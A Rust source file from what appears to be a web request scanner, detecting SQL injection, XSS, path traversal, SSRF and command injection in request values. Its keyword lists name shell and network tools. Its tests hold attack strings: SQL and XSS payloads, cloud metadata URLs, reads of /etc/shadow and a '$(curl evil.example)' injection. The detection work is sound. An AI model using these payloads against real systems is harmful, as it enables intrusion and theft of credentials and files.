//! Hand-written byte scanners for injection patterns in one value (a path, a query pair, a
//! header, a JSON string).
//!
//! A value is first normalized: percent-decoded (twice, to see through double encoding),
//! `+` read as a space in query strings, ASCII lowercased. Then one pass over its bytes
//! looks at the few anchors attacks need (quotes, `<`, `..`, `://`, NUL) and at every word,
//! matched against small keyword sets with context checks before and after. No regex: the
//! whole detector set over a 1 KB request stays in the low microseconds.

use super::finding::{FindingKind, Severity};
use super::ssrf;
use crate::hex::digit;

/// What a scanner found in a value: kind, severity, rule.
pub(crate) type Hit = (FindingKind, Severity, &'static str);

/// Reusable buffers for normalization.
#[derive(Debug)]
pub(crate) struct Scratch {
    text: Vec<u8>,
    spare: Vec<u8>,
}

impl Default for Scratch {
    fn default() -> Self {
        // Most values fit: no reallocation while a request is scanned.
        Self { text: Vec::with_capacity(512), spare: Vec::with_capacity(512) }
    }
}

/// Whether a raw value could hold any pattern: values made only of letters, digits and
/// `_ - . @` (ids, currencies, emails, dates) cannot, and are skipped without a copy.
pub(crate) fn worth_scanning(raw: &[u8]) -> bool {
    raw.iter().any(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'@')))
}

/// Normalizes `raw` and scans it; hits are appended to `hits` (at most one per kind).
pub(crate) fn scan_raw(raw: &[u8], plus_is_space: bool, scratch: &mut Scratch, hits: &mut Vec<Hit>) {
    if !worth_scanning(raw) {
        return;
    }
    normalize(raw, plus_is_space, scratch);
    scan(&scratch.text, hits);
}

/// Unescapes a JSON string's content (between its quotes) and scans it.
pub(crate) fn scan_json_string(raw: &[u8], scratch: &mut Scratch, hits: &mut Vec<Hit>) {
    if !worth_scanning(raw) {
        return;
    }
    if raw.contains(&b'\\') {
        unescape_json(raw, &mut scratch.spare);
        let spare = std::mem::take(&mut scratch.spare);
        normalize(&spare, false, scratch);
        scratch.spare = spare;
    } else {
        normalize(raw, false, scratch);
    }
    scan(&scratch.text, hits);
}

/// Percent-decodes (twice when the first pass leaves escapes) and lowercases into
/// `scratch.text`.
fn normalize(raw: &[u8], plus_is_space: bool, scratch: &mut Scratch) {
    decode(raw, plus_is_space, &mut scratch.text);
    if scratch.text.contains(&b'%') && has_escape(&scratch.text) {
        decode(&scratch.text, false, &mut scratch.spare);
        std::mem::swap(&mut scratch.text, &mut scratch.spare);
    }
}

fn has_escape(s: &[u8]) -> bool {
    s.windows(3).any(|w| w[0] == b'%' && digit(w[1]).is_some() && digit(w[2]).is_some())
}

fn decode(src: &[u8], plus_is_space: bool, out: &mut Vec<u8>) {
    out.clear();
    out.reserve(src.len());
    let encoded = src.contains(&b'%') || (plus_is_space && src.contains(&b'+'));
    if !encoded {
        // The common case: nothing to decode, a lowercasing copy the compiler vectorizes.
        out.extend(src.iter().map(u8::to_ascii_lowercase));
        return;
    }
    let mut i = 0;
    while i < src.len() {
        let c = src[i];
        if c == b'%' && i + 2 < src.len() {
            if let (Some(h), Some(l)) = (digit(src[i + 1]), digit(src[i + 2])) {
                out.push(((h << 4) | l).to_ascii_lowercase());
                i += 3;
                continue;
            }
        }
        out.push(if plus_is_space && c == b'+' { b' ' } else { c.to_ascii_lowercase() });
        i += 1;
    }
}

/// JSON string escapes to bytes; `\uXXXX` to UTF-8 (lone surrogates become `?`).
fn unescape_json(raw: &[u8], out: &mut Vec<u8>) {
    out.clear();
    let mut i = 0;
    while i < raw.len() {
        let c = raw[i];
        if c != b'\\' || i + 1 >= raw.len() {
            out.push(c);
            i += 1;
            continue;
        }
        let e = raw[i + 1];
        i += 2;
        match e {
            b'n' => out.push(b'\n'),
            b'r' => out.push(b'\r'),
            b't' => out.push(b'\t'),
            b'b' | b'f' => out.push(b' '),
            b'u' if i + 4 <= raw.len() => {
                let code =
                    raw[i..i + 4].iter().try_fold(0u32, |acc, &d| digit(d).map(|v| acc * 16 + u32::from(v)));
                i += 4;
                let ch = code.and_then(char::from_u32).unwrap_or('?');
                let mut buf = [0u8; 4];
                out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
            }
            other => out.push(other),
        }
    }
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

fn is_ws(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c)
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Skips white space, `+` and `/* ... */` comments (SQL's ways to separate words). MySQL
/// runs the text of a `/*! ... */` comment (`/*!50000UNION*/`): its opening, version and
/// closing are skipped, its text is not.
fn skip_sql_space(s: &[u8], mut i: usize) -> usize {
    loop {
        while i < s.len() && (is_ws(s[i]) || s[i] == b'+') {
            i += 1;
        }
        if s.get(i..i + 3) == Some(b"/*!") {
            i += 3;
            while i < s.len() && s[i].is_ascii_digit() {
                i += 1;
            }
        } else if s.get(i..i + 2) == Some(b"*/") {
            i += 2;
        } else if s.get(i..i + 2) == Some(b"/*") {
            match find(&s[i + 2..], b"*/") {
                Some(p) => i += p + 4,
                None => return s.len(),
            }
        } else {
            return i;
        }
    }
}

fn word_at(s: &[u8], i: usize) -> &[u8] {
    let start = i.min(s.len());
    let end = s[start..].iter().position(|&c| !is_word(c)).map_or(s.len(), |p| start + p);
    &s[start..end]
}

/// The byte before `start`, skipping white space (and `+`, and closing parentheses when
/// `parens`), with its index.
fn before(s: &[u8], start: usize, parens: bool) -> Option<(usize, u8)> {
    let mut i = start;
    while i > 0 {
        i -= 1;
        let c = s[i];
        if is_ws(c) || c == b'+' || (parens && c == b')') {
            continue;
        }
        return Some((i, c));
    }
    None
}

fn push(hits: &mut Vec<Hit>, kind: FindingKind, severity: Severity, rule: &'static str) {
    if !hits.iter().any(|h| h.0 == kind) {
        hits.push((kind, severity, rule));
    }
}

/// Scans one normalized (lowercase, decoded) value.
pub(crate) fn scan(s: &[u8], hits: &mut Vec<Hit>) {
    // A script URL needs its colon: literal, or as `&colon;` or a numeric reference. A value
    // with `&` and neither (form text, "Tom & Jerry") is not copied and searched.
    if s.iter().any(|&c| matches!(c, b'&' | b'\t' | b'\n' | b'\r'))
        && (s.contains(&b':') || find(s, b"&#").is_some() || find(s, b"&colon").is_some())
    {
        hidden_script_url(s, hits);
    }
    let n = s.len();
    let mut i = 0;
    while i < n {
        let c = s[i];
        if is_word(c) {
            let start = i;
            while i < n && is_word(s[i]) {
                i += 1;
            }
            on_word(s, start, i, hits);
            continue;
        }
        match c {
            // MySQL runs the text of `/*!50000 ... */`: its words are read without the version.
            b'/' if s.get(i + 1..i + 3) == Some(b"*!") => {
                i += 3;
                while i < n && s[i].is_ascii_digit() {
                    i += 1;
                }
                continue;
            }
            b'\'' | b'"' => on_quote(s, i, hits),
            b'<' => on_angle(s, i, hits),
            b'.' if matches!(s.get(i + 1..i + 3), Some(b"./") | Some(b".\\") | Some(b".;")) => {
                push(hits, FindingKind::PathTraversal, Severity::High, "dot-dot-slash")
            }
            b':' => on_url(s, i, hits),
            0 => push(hits, FindingKind::PathTraversal, Severity::Medium, "nul byte"),
            _ => {}
        }
        i += 1;
    }
}

/// A quote closing a string early, then a comment that cuts the rest of the statement.
fn on_quote(s: &[u8], i: usize, hits: &mut Vec<Hit>) {
    let j = skip_sql_space(s, i + 1);
    let rest = &s[j.min(s.len())..];
    let comment = (rest.starts_with(b"--") && rest.get(2).is_none_or(|&c| is_ws(c) || c == b'-'))
        || (rest.first() == Some(&b'#') && rest.get(1).is_none_or(|&c| is_ws(c)))
        || rest.starts_with(b"/*");
    // `/*` right after a quote was eaten by skip_sql_space: check the raw bytes too.
    let raw_comment = s.get(i + 1..i + 3) == Some(b"/*");
    if comment || raw_comment {
        push(hits, FindingKind::SqlInjection, Severity::High, "quote then comment");
    }
    // `' || '1'='1`: `||` and `&&` are `or` and `and` in MySQL (and `||` joins strings in
    // Oracle and PostgreSQL, which ends up compared all the same).
    if rest.starts_with(b"||") || rest.starts_with(b"&&") {
        tautology(s, j, j + 2, hits);
    }
}

/// A tag that runs script, or any tag with an event handler attribute.
fn on_angle(s: &[u8], i: usize, hits: &mut Vec<Hit>) {
    let mut j = i + 1;
    if s.get(j) == Some(&b'/') {
        j += 1;
    }
    if !s.get(j).is_some_and(u8::is_ascii_alphabetic) {
        return;
    }
    let name = word_at(s, j);
    if matches!(
        name,
        b"script"
            | b"iframe"
            | b"frame"
            | b"frameset"
            | b"object"
            | b"embed"
            | b"applet"
            | b"base"
            | b"meta"
            | b"svg"
            | b"math"
            | b"style"
            | b"link"
            | b"template"
            | b"isindex"
            | b"xss"
    ) {
        push(hits, FindingKind::Xss, Severity::High, "dangerous tag");
        return;
    }
    let end = s[j..].iter().position(|&c| c == b'>').map_or(s.len(), |p| j + p).min(j + 512);
    let mut k = j + name.len();
    while k < end {
        if is_word(s[k]) {
            let attr = word_at(s, k);
            let boundary = matches!(s[k - 1], b' ' | b'/' | b'"' | b'\'' | b'\t' | b'\n');
            let after = skip_sql_space(s, k + attr.len());
            let assigned = s.get(after) == Some(&b'=');
            let handler = attr.len() > 3 && attr.starts_with(b"on");
            if boundary && assigned && (handler || matches!(attr, b"srcdoc" | b"formaction")) {
                push(hits, FindingKind::Xss, Severity::High, "event handler attribute");
                return;
            }
            k += attr.len();
        } else {
            k += 1;
        }
    }
}

/// Longest URL text after a scheme's colon that is normalized to find its host.
const MAX_AUTHORITY: usize = 512;

/// A URL: a dangerous scheme, or an http(s) URL to an internal address.
///
/// Read as WHATWG URL parsers (the `url` crate, reqwest, browsers) read it: tab, CR and LF
/// are dropped anywhere (`ht\ttp://`), and for the special schemes `\` is a `/` and the
/// slashes before the host may be missing (`http:\\169.254.169.254`, `http:10.0.0.1/`).
/// Whether `authority` starts with a host that is only decimal digits, under 2^24, followed
/// by its end or a delimiter (`503`, `1/x`, `21 ok`).
fn is_small_number(authority: &[u8]) -> bool {
    let host_end = authority
        .iter()
        .position(|&c| matches!(c, b'/' | b'?' | b'#' | b':' | b'@' | b' '))
        .unwrap_or(authority.len());
    let host = &authority[..host_end];
    !host.is_empty()
        && host.len() <= 8
        && host.iter().all(u8::is_ascii_digit)
        && host.iter().fold(0u32, |n, &d| n * 10 + u32::from(d - b'0')) < 1 << 24
}

fn on_url(s: &[u8], colon: usize, hits: &mut Vec<Hit>) {
    // The scheme: the letters before the colon, across dropped tabs and line breaks.
    let mut scheme = [0u8; 8];
    let mut len = 0;
    let mut k = colon;
    while k > 0 && (is_word(s[k - 1]) || matches!(s[k - 1], b'\t' | b'\n' | b'\r')) {
        k -= 1;
        if is_word(s[k]) {
            if len == scheme.len() {
                return;
            }
            scheme[len] = s[k];
            len += 1;
        }
    }
    let scheme = &mut scheme[..len];
    scheme.reverse();
    let special = matches!(&*scheme, b"http" | b"https" | b"ftp" | b"ws" | b"wss" | b"file");
    if !special {
        if s.get(colon + 1..colon + 3) == Some(b"//")
            && matches!(
                &*scheme,
                b"gopher"
                    | b"dict"
                    | b"ldap"
                    | b"ldaps"
                    | b"tftp"
                    | b"jar"
                    | b"netdoc"
                    | b"phar"
                    | b"php"
                    | b"expect"
                    | b"sftp"
            )
        {
            push(hits, FindingKind::Ssrf, Severity::High, "dangerous url scheme");
        }
        return;
    }
    // Normalized only after a special scheme: a value of many colons costs no copies.
    let mut rest = [0u8; MAX_AUTHORITY];
    let mut n = 0;
    for &c in s[colon + 1..].iter().filter(|&&c| !matches!(c, b'\t' | b'\n' | b'\r')) {
        if n == rest.len() {
            break;
        }
        rest[n] = if c == b'\\' { b'/' } else { c };
        n += 1;
    }
    let rest = &rest[..n];
    let slashes = rest.iter().take_while(|&&c| c == b'/').count();
    match &*scheme {
        // `file` is special: `file:/etc/passwd` is a file URL too.
        b"file" if slashes > 0 => push(hits, FindingKind::Ssrf, Severity::High, "dangerous url scheme"),
        // Without slashes (`http:host`), a WHATWG parser still reads a host, but plain text
        // reads the same way: `HTTP:503`, `ws:1`, `ftp:21`. A bare number under 2^24 there
        // (an address in 0.0.0.0/8) is taken for text; larger ones (`http:2852039166`, the
        // metadata address in decimal) and every other host are still classified.
        b"http" | b"https" | b"ftp" | b"ws" | b"wss"
            if rest.len() > slashes && !(slashes == 0 && is_small_number(rest)) =>
        {
            if let Some((severity, rule)) = ssrf::classify_authority(&rest[slashes..]) {
                push(hits, FindingKind::Ssrf, severity, rule);
            }
        }
        _ => {}
    }
}

/// `javascript:` hidden by HTML character references (`jav&#x09;ascript:`,
/// `javascript&colon;`) or split by tab, CR or LF, which a browser decodes and drops before
/// it reads the scheme of an attribute's URL.
fn hidden_script_url(s: &[u8], hits: &mut Vec<Hit>) {
    let mut text = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        let (c, used) = if s[i] == b'&' { html_reference(&s[i..]).unwrap_or((b'&', 1)) } else { (s[i], 1) };
        i += used;
        if !matches!(c, b'\t' | b'\n' | b'\r' | 0) {
            text.push(c.to_ascii_lowercase());
        }
    }
    for scheme in [b"javascript".as_slice(), b"vbscript", b"livescript"] {
        let mut from = 0;
        while let Some(p) = find(&text[from..], scheme).map(|p| from + p) {
            let boundary = p == 0 || !is_word(text[p - 1]);
            let end = p + scheme.len();
            if boundary && text.get(skip_sql_space(&text, end)) == Some(&b':') {
                push(hits, FindingKind::Xss, Severity::High, "script url");
                return;
            }
            from = end;
        }
    }
}

/// The ASCII byte an HTML character reference at the start of `s` stands for, and its
/// length: numeric (`&#9;`, `&#x09;`, the `;` optional, as browsers accept) or one of the
/// named ones that spell a URL's scheme or its separators. Non-ASCII references are `?`.
fn html_reference(s: &[u8]) -> Option<(u8, usize)> {
    if let Some(num) = s.strip_prefix(b"&#") {
        let (digits, radix, skip) = match num.first() {
            Some(b'x' | b'X') => (&num[1..], 16, 3),
            _ => (num, 10, 2),
        };
        let len = digits
            .iter()
            .take_while(|c| c.is_ascii_hexdigit() && (radix == 16 || c.is_ascii_digit()))
            .count();
        if len == 0 {
            return None;
        }
        // Leading zeros may pad a reference to any length.
        let value = digits[..len].iter().skip_while(|&&c| c == b'0').try_fold(0u32, |acc, &c| {
            let d = char::from(c).to_digit(radix)?;
            acc.checked_mul(radix)?.checked_add(d).filter(|&v| v <= 0x10ffff)
        });
        let semi = usize::from(digits.get(len) == Some(&b';'));
        let byte = value.and_then(|v| u8::try_from(v).ok()).filter(u8::is_ascii).unwrap_or(b'?');
        return Some((byte, skip + len + semi));
    }
    const NAMED: &[(&[u8], u8)] = &[
        (b"&tab;", b'\t'),
        (b"&newline;", b'\n'),
        (b"&colon;", b':'),
        (b"&sol;", b'/'),
        (b"&lpar;", b'('),
        (b"&rpar;", b')'),
        (b"&amp;", b'&'),
        (b"&lt;", b'<'),
        (b"&gt;", b'>'),
        (b"&quot;", b'"'),
        (b"&apos;", b'\''),
        (b"&period;", b'.'),
    ];
    NAMED
        .iter()
        .find(|(name, _)| s.len() >= name.len() && s[..name.len()].eq_ignore_ascii_case(name))
        .map(|&(name, c)| (c, name.len()))
}

/// Every word [`on_word`] and [`command`] act on: a word that is not one is skipped
/// before any context is looked at (most words of a request are not).
const KEYWORDS: &[&[u8]] = &[
    b"all",
    b"alter",
    b"and",
    b"base64",
    b"bash",
    b"benchmark",
    b"bin",
    b"boot",
    b"cat",
    b"certutil",
    b"chmod",
    b"chown",
    b"cmd",
    b"cookie",
    b"create",
    b"curl",
    b"dbms_pipe",
    b"delete",
    b"drop",
    b"echo",
    b"env",
    b"etc",
    b"exec",
    b"execute",
    b"extractvalue",
    b"id",
    b"ifconfig",
    b"ifs",
    b"information_schema",
    b"insert",
    b"into",
    b"ipconfig",
    b"javascript",
    b"kill",
    b"livescript",
    b"load_file",
    b"ls",
    b"mkfifo",
    b"mysql_user",
    b"nc",
    b"ncat",
    b"netcat",
    b"nslookup",
    b"or",
    b"perl",
    b"pg_catalog",
    b"pg_sleep",
    b"php",
    b"ping",
    b"powershell",
    b"pwd",
    b"python",
    b"python3",
    b"rm",
    b"ruby",
    b"select",
    b"sh",
    b"shutdown",
    b"sleep",
    b"sysobjects",
    b"telnet",
    b"truncate",
    b"uname",
    b"union",
    b"update",
    b"updatexml",
    b"utl_inaddr",
    b"vbscript",
    b"version",
    b"waitfor",
    b"wget",
    b"whoami",
    b"win",
    b"xor",
    b"xp_cmdshell",
    b"zsh",
];

/// Per first letter, a bit per length of the keywords starting with it.
const FILTER: [u32; 26] = {
    let mut table = [0u32; 26];
    let mut i = 0;
    while i < KEYWORDS.len() {
        let w = KEYWORDS[i];
        table[(w[0] - b'a') as usize] |= 1 << w.len();
        i += 1;
    }
    table
};

fn maybe_keyword(w: &[u8]) -> bool {
    match w.first() {
        Some(&c @ b'a'..=b'z') if w.len() < 32 => FILTER[(c - b'a') as usize] >> w.len() & 1 == 1,
        _ => false,
    }
}

fn on_word(s: &[u8], start: usize, end: usize, hits: &mut Vec<Hit>) {
    let w = &s[start..end];
    if !maybe_keyword(w) {
        return;
    }
    // Context is computed only for the few words that are keywords.
    let next = || skip_sql_space(s, end);
    let next_word = || word_at(s, next());
    let prev = || before(s, start, false).map(|(_, c)| c);
    let stacked = || prev() == Some(b';');
    let after_quote = || matches!(prev(), Some(b'\'') | Some(b'"'));
    let sql = |hits: &mut Vec<Hit>, severity, rule| push(hits, FindingKind::SqlInjection, severity, rule);
    match w {
        b"union" => {
            // `union(select ...)`: a parenthesis separates words as well as a space does.
            let mut j = next();
            while s.get(j) == Some(&b'(') {
                j = skip_sql_space(s, j + 1);
            }
            let mut n = word_at(s, j);
            if matches!(n, b"all" | b"distinct") {
                j = skip_sql_space(s, j + n.len());
                while s.get(j) == Some(&b'(') {
                    j = skip_sql_space(s, j + 1);
                }
                n = word_at(s, j);
            }
            if n == b"select" {
                sql(hits, Severity::High, "union select");
            }
        }
        b"select" if (stacked() || after_quote()) && find(&s[end..], b"from").is_some() => {
            sql(hits, Severity::High, "stacked select")
        }
        b"drop" | b"truncate" | b"alter" | b"create"
            if (stacked() || after_quote())
                && matches!(next_word(), b"table" | b"database" | b"schema" | b"user" | b"procedure") =>
        {
            sql(hits, Severity::Critical, "stacked schema change")
        }
        b"delete" if (stacked() || after_quote()) && next_word() == b"from" => {
            sql(hits, Severity::Critical, "stacked delete")
        }
        b"insert" if (stacked() || after_quote()) && next_word() == b"into" => {
            sql(hits, Severity::High, "stacked insert")
        }
        b"update" if stacked() || after_quote() => {
            let j = skip_sql_space(s, next() + next_word().len());
            if !next_word().is_empty() && word_at(s, j) == b"set" {
                sql(hits, Severity::High, "stacked update");
            }
        }
        b"exec" | b"execute"
            if stacked()
                && (next_word().starts_with(b"xp_")
                    || next_word().starts_with(b"sp_")
                    || next_word() == b"master"
                    || s.get(next()) == Some(&b'(')) =>
        {
            sql(hits, Severity::High, "stacked exec")
        }
        b"shutdown" if stacked() => sql(hits, Severity::Critical, "stacked shutdown"),
        b"sleep" | b"benchmark" | b"pg_sleep" | b"load_file" | b"extractvalue" | b"updatexml"
        | b"dbms_pipe" | b"utl_inaddr"
            if s.get(next()) == Some(&b'(') =>
        {
            sql(hits, Severity::High, "sql function")
        }
        b"waitfor" if next_word() == b"delay" => sql(hits, Severity::High, "waitfor delay"),
        b"information_schema" | b"pg_catalog" | b"sysobjects" | b"mysql_user" => {
            sql(hits, Severity::High, "system catalog")
        }
        b"xp_cmdshell" => sql(hits, Severity::Critical, "xp_cmdshell"),
        b"into" if matches!(next_word(), b"outfile" | b"dumpfile") => {
            sql(hits, Severity::High, "into outfile")
        }
        b"version" if start >= 2 && &s[start - 2..start] == b"@@" => sql(hits, Severity::Medium, "@@version"),
        b"or" | b"and" | b"xor" => tautology(s, start, end, hits),
        b"javascript" | b"vbscript" | b"livescript" if s.get(skip_sql_space(s, end)) == Some(&b':') => {
            push(hits, FindingKind::Xss, Severity::High, "script url")
        }
        b"cookie" if s[..start].ends_with(b"document.") => {
            push(hits, FindingKind::Xss, Severity::High, "document.cookie")
        }
        b"etc"
            if start > 0
                && s[start - 1] == b'/'
                && [b"/passwd".as_slice(), b"/shadow", b"/group", b"/hosts"]
                    .iter()
                    .any(|f| s[end..].starts_with(f)) =>
        {
            push(hits, FindingKind::PathTraversal, Severity::High, "system file")
        }
        b"win" | b"boot" if s[end..].starts_with(b".ini") => {
            push(hits, FindingKind::PathTraversal, Severity::High, "system file")
        }
        b"bin"
            if s[..start].ends_with(b"/")
                && (s[end..].starts_with(b"/sh") || s[end..].starts_with(b"/bash")) =>
        {
            push(hits, FindingKind::CommandInjection, Severity::High, "shell path")
        }
        b"ifs" if s[..start].ends_with(b"${") => {
            push(hits, FindingKind::CommandInjection, Severity::High, "${IFS}")
        }
        _ => {}
    }
    command(s, start, end, hits);
}

/// `or`/`and` followed by a comparison: always an injection right after a quote
/// (`' or 'a'='a`), and a tautology (`or 1=1`) anywhere.
fn tautology(s: &[u8], start: usize, end: usize, hits: &mut Vec<Hit>) {
    let quoted = matches!(before(s, start, true), Some((_, b'\'' | b'"')));
    let i = skip_sql_space(s, end);
    let Some((a, a_quoted, j)) = operand(s, i) else { return };
    let j = skip_sql_space(s, j);
    let op = match s.get(j..) {
        Some(r)
            if r.starts_with(b"<>")
                || r.starts_with(b"!=")
                || r.starts_with(b">=")
                || r.starts_with(b"<=") =>
        {
            2
        }
        Some(r) if r.starts_with(b"=") || r.starts_with(b"<") || r.starts_with(b">") => 1,
        Some(r) if r.starts_with(b"like") && r.get(4).is_some_and(|&c| !is_word(c)) => 4,
        _ => 0,
    };
    if op == 0 {
        // `' or true--`: a bare operand cut off by a comment after a quote.
        let k = skip_sql_space(s, j);
        if quoted && !a.is_empty() && (s[k.min(s.len())..].starts_with(b"--") || s.get(k) == Some(&b'#')) {
            push(hits, FindingKind::SqlInjection, Severity::High, "quote then boolean");
        }
        return;
    }
    let k = skip_sql_space(s, j + op);
    let Some((b, b_quoted, _)) = operand(s, k) else { return };
    if quoted {
        push(hits, FindingKind::SqlInjection, Severity::High, "quote then comparison");
    } else if a == b && (!a.is_empty() || (a_quoted && b_quoted)) {
        push(hits, FindingKind::SqlInjection, Severity::High, "tautology");
    }
}

/// A quoted string or a word at `i`: (its content, whether quoted, the index after it).
fn operand(s: &[u8], i: usize) -> Option<(&[u8], bool, usize)> {
    let c = *s.get(i)?;
    if c == b'\'' || c == b'"' {
        let len = s[i + 1..].iter().position(|&d| d == c).unwrap_or(s.len() - i - 1);
        return Some((&s[i + 1..i + 1 + len], true, (i + 2 + len).min(s.len())));
    }
    let w = word_at(s, i);
    (!w.is_empty()).then_some((w, false, i + w.len()))
}

/// A shell command right after a command separator (`;`, `|`, `&`, a backtick, `$(`, a
/// newline). Commands that are also English words (`cat`, `type`) count only when an
/// argument that looks like a path or a flag, or nothing, follows.
fn command(s: &[u8], start: usize, end: usize, hits: &mut Vec<Hit>) {
    let w = &s[start..end];
    let strong = matches!(
        w,
        b"whoami"
            | b"uname"
            | b"wget"
            | b"curl"
            | b"bash"
            | b"zsh"
            | b"powershell"
            | b"nslookup"
            | b"netcat"
            | b"ncat"
            | b"ifconfig"
            | b"ipconfig"
            | b"telnet"
            | b"certutil"
            | b"mkfifo"
    );
    let weak = matches!(
        w,
        b"cat"
            | b"ls"
            | b"id"
            | b"sh"
            | b"nc"
            | b"ping"
            | b"python"
            | b"python3"
            | b"perl"
            | b"php"
            | b"ruby"
            | b"rm"
            | b"chmod"
            | b"chown"
            | b"echo"
            | b"sleep"
            | b"cmd"
            | b"env"
            | b"pwd"
            | b"kill"
            | b"base64"
    );
    if !strong && !weak {
        return;
    }
    let mut i = start;
    while i > 0 && matches!(s[i - 1], b' ' | b'\t') {
        i -= 1;
    }
    let separated = i > 0
        && match s[i - 1] {
            b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' => true,
            b'(' => i >= 2 && s[i - 2] == b'$',
            _ => false,
        };
    if !separated {
        return;
    }
    let argument_like = || {
        let Some(&c) = s.get(end) else { return true };
        if matches!(c, b'`' | b')' | b';' | b'|' | b'&' | b'>' | b'<') {
            return true;
        }
        if !is_ws(c) {
            return false;
        }
        let mut k = end;
        while k < s.len() && is_ws(s[k]) {
            k += 1;
        }
        s.get(k)
            .is_none_or(|c| matches!(c, b'/' | b'-' | b'.' | b'$' | b'~' | b'`' | b'|' | b';' | b'>' | b'\\'))
    };
    if strong || argument_like() {
        push(hits, FindingKind::CommandInjection, Severity::High, "command after separator");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(raw: &str) -> Vec<FindingKind> {
        let mut scratch = Scratch::default();
        let mut hits = Vec::new();
        scan_raw(raw.as_bytes(), true, &mut scratch, &mut hits);
        hits.into_iter().map(|h| h.0).collect()
    }

    #[test]
    fn sql_injection_is_found() {
        for attack in [
            "1' OR '1'='1",
            "admin'--",
            "admin' #",
            "1 UNION ALL SELECT username, password FROM users",
            "1 union/**/select null",
            "x'; DROP TABLE payments; --",
            "1; delete from users",
            "1 or 1=1",
            "' or ''='",
            "1' and sleep(5)--",
            "1 AND SLEEP(5)",
            "'; waitfor delay '0:0:5'--",
            "1'%20or%20'1'%3D'1",
            "1%2527%20or%201%3D1",
            "select * from information_schema.tables",
            "1 UNION(SELECT password FROM users)",
            "1 union all(select 1)",
            "1 /*!UNION*/ /*!SELECT*/ password FROM users",
            "1 /*!50000union*//*!50000select*/ 1",
            "' || '1'='1",
            "x' && 'a'='a",
        ] {
            assert!(kinds(attack).contains(&FindingKind::SqlInjection), "missed {attack}");
        }
    }

    #[test]
    fn xss_traversal_and_commands_are_found() {
        for (attack, kind) in [
            ("<script>alert(1)</script>", FindingKind::Xss),
            ("<img src=x onerror=alert(1)>", FindingKind::Xss),
            ("<svg/onload=alert(1)>", FindingKind::Xss),
            ("javascript:alert(document.cookie)", FindingKind::Xss),
            ("jav&#x09;ascript:alert(1)", FindingKind::Xss),
            ("jav&#9ascript:alert(1)", FindingKind::Xss),
            ("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", FindingKind::Xss),
            ("javascript&colon;alert(1)", FindingKind::Xss),
            ("java%0ascript:alert(1)", FindingKind::Xss),
            ("jav&#x0000009;ascript:alert(1)", FindingKind::Xss),
            ("%3Cscript%3E", FindingKind::Xss),
            ("../../etc/passwd", FindingKind::PathTraversal),
            ("..%2f..%2fwindows%2fwin.ini", FindingKind::PathTraversal),
            ("%252e%252e%252fetc", FindingKind::PathTraversal),
            ("file%00.png", FindingKind::PathTraversal),
            ("http://169.254.169.254/latest/meta-data/", FindingKind::Ssrf),
            ("http:\\\\169.254.169.254\\latest\\meta-data", FindingKind::Ssrf),
            ("http:169.254.169.254/", FindingKind::Ssrf),
            ("http:2852039166/latest/meta-data/", FindingKind::Ssrf),
            ("http:localhost:8080/admin", FindingKind::Ssrf),
            ("http:/127.0.0.1/admin", FindingKind::Ssrf),
            ("ht\ttp://10.0.0.1/", FindingKind::Ssrf),
            ("http:/\t/169.254.169.254/", FindingKind::Ssrf),
            ("https:\\/localhost:8080", FindingKind::Ssrf),
            ("ftp:%5C%5C192.168.0.1", FindingKind::Ssrf),
            ("file:/etc/passwd", FindingKind::Ssrf),
            ("x; cat /etc/shadow", FindingKind::CommandInjection),
            ("a | whoami", FindingKind::CommandInjection),
            ("$(curl evil.example)", FindingKind::CommandInjection),
            ("`id`", FindingKind::CommandInjection),
            ("a&&ls -la", FindingKind::CommandInjection),
            ("x;${IFS}cat", FindingKind::CommandInjection),
        ] {
            assert!(kinds(attack).contains(&kind), "missed {attack}");
        }
    }

    #[test]
    fn benign_text_is_not_flagged() {
        for benign in [
            "O'Brien",
            "Seán O'Brien & Sons; Ltd",
            "Order #48213 - 2x running shoes, 1x socks; deliver to the back door",
            "ada.lovelace@example.com",
            "12 Analytical Engine Way, London N1 9GU",
            "Price: 12.99 EUR, was 15.00 (save 3.01)",
            "Rock 'n' roll and blues",
            "Please select a size from the list",
            "Cats & dogs; cat food and dog treats",
            "Call or text 415-555-2671",
            "Buy 1 or 2 = 3 total",
            "I'd like it delivered... thanks!",
            "a < b and c > d",
            "https://example.com/receipts/48213?download=1",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15",
            "curl/8.4.0",
            "update my address please; set it to the new one",
            "It's 50% off",
            "Tom &amp; Jerry &#169; 2024 &lt;3",
            "See the docs at http: example.com or https:public.example.org",
            "Reunion (select guests only)",
            "The file: report.pdf; see http: the protocol",
            "'a' || 'b' is how you join strings",
            "javascript is a language & so is java",
            "upstream returned HTTP:503",
            "retry on ws:1 or ftp:21, then https:443",
            "status http:404 / 500",
        ] {
            assert_eq!(kinds(benign), Vec::<FindingKind>::new(), "flagged {benign}");
        }
    }

    #[test]
    fn the_keyword_filter_lets_every_keyword_through() {
        assert!(KEYWORDS.iter().all(|w| maybe_keyword(w)));
        assert!(!maybe_keyword(b"running") && !maybe_keyword(b"42") && !maybe_keyword(b"london"));
    }

    #[test]
    fn json_escapes_are_seen_through() {
        let mut scratch = Scratch::default();
        let mut hits = Vec::new();
        scan_json_string(br"\u003cscript\u003e", &mut scratch, &mut hits);
        assert_eq!(hits[0].0, FindingKind::Xss);
    }
}
